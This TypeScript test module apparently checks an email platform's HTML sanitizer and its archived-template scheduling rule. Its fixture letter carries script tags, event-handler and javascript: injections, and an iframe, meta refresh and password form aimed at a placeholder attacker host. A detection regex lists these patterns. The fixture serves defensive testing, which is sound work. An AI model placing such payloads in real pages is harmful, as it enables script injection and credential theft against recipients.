import { askForRun } from './runs.ts'
import type { Scene } from './scene.ts'
import type { Row } from './table.ts'

/** A letter as it may come from anywhere: its words are welcome, the rest is not. */
const hostile = {
  subject: 'An invitation for {{ first_name }}',
  personalization_defaults: { first_name: 'you' },
  html: `<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">
<style>@import url(https://evil.test/x.css); @media (max-width: 480px) { .page { padding: 12px } } .page { position: fixed; behavior: url(x.htc) }</style></head>
<body onload="steal()"><div class="page">
  <h1>Come and see us, {{ first_name }}</h1>
  <p><a href="javascript:steal()">Yes</a> or <a href="https://www.acme.test/events" onclick="steal()">tell me more</a></p>
  <iframe src="https://evil.test"></iframe><svg onload="steal()"></svg>
  <form action="https://evil.test"><input name="password"></form>
  <img src="data:text/html,steal" alt=""><script>steal()</script>
  <p><a href="{{ unsubscribe_url }}">Unsubscribe</a></p>
</div></body></html>`,
}
const forbidden =
  /script|steal|evil|iframe|svg|<form|<input|@import|position|behavior|onload|onclick|data:|refresh|<base/i
const kept = ['Come and see us', 'https://www.acme.test/events', '@media (max-width', '{{ unsubscribe_url }}']

interface Content {
  id: string
  validation: { stripped: Record<'tags' | 'attributes' | 'css_properties' | 'protocols', string[]> }
}

/** A hostile letter is cleaned and says of what; while its template is archived nothing with it can be scheduled. Answers its content. */
export async function cleanLetter(
  scene: Scene,
  draft: { audience_id: string; sender_identity_id: string },
): Promise<{ rows: Row[]; contentId: string }> {
  const { api, browser, workspace, atConsole, round, tell } = scene
  const { email_template: template } = await api.ok<{ email_template: { id: string } }>(
    'POST',
    `${workspace}/email-templates`,
    { name: `Invitation ${round}`, slug: `invitation-${round}` },
  )
  const path = `${workspace}/email-templates/${template.id}`
  const { content_version: content } = await api.ok<{ content_version: Content }>('POST', `${path}/versions`, hostile)
  const { tags, attributes, css_properties: css, protocols } = content.validation.stripped
  tell(`removed: <${tags.join('>, <')}>; ${[...attributes, ...css, ...protocols.map((name) => `${name}:`)].join(', ')}`)
  const { content_version: stored } = await browser.ok<{ content_version: { sanitized_html: string } }>(
    'GET',
    `${atConsole}/content-versions/${content.id}`,
  )
  const html = stored.sanitized_html

  const archive = (body: object) => api.ok<{ archived: boolean }>('POST', `${path}/archive`, body)
  await archive({})
  const { campaign } = await api.ok<{ campaign: { id: string } }>('POST', `${workspace}/campaign-drafts`, {
    name: `Of an archived template ${round}`,
    content_version_id: content.id,
    ...draft,
  })
  const refused = await askForRun(scene, campaign.id, new Date(Date.now() + 3_600_000))
  tell(`eleven conditions stand before a schedule; archived, the template fails one: “${refused.text}”`)
  await archive({ archived: false })
  return {
    contentId: content.id,
    rows: [
      {
        name: 'kinds of things removed',
        actual: tags.length + attributes.length + css.length + protocols.length,
        expected: 14,
      },
      { name: 'left of them in what is sent', actual: forbidden.exec(html)?.[0] ?? 'nothing', expected: 'nothing' },
      {
        name: 'words, links and media query kept',
        actual: kept.filter((part) => html.includes(part)).length,
        expected: kept.length,
      },
      { name: 'scheduling with an archived template', actual: refused.status, expected: 422 },
    ],
  }
}
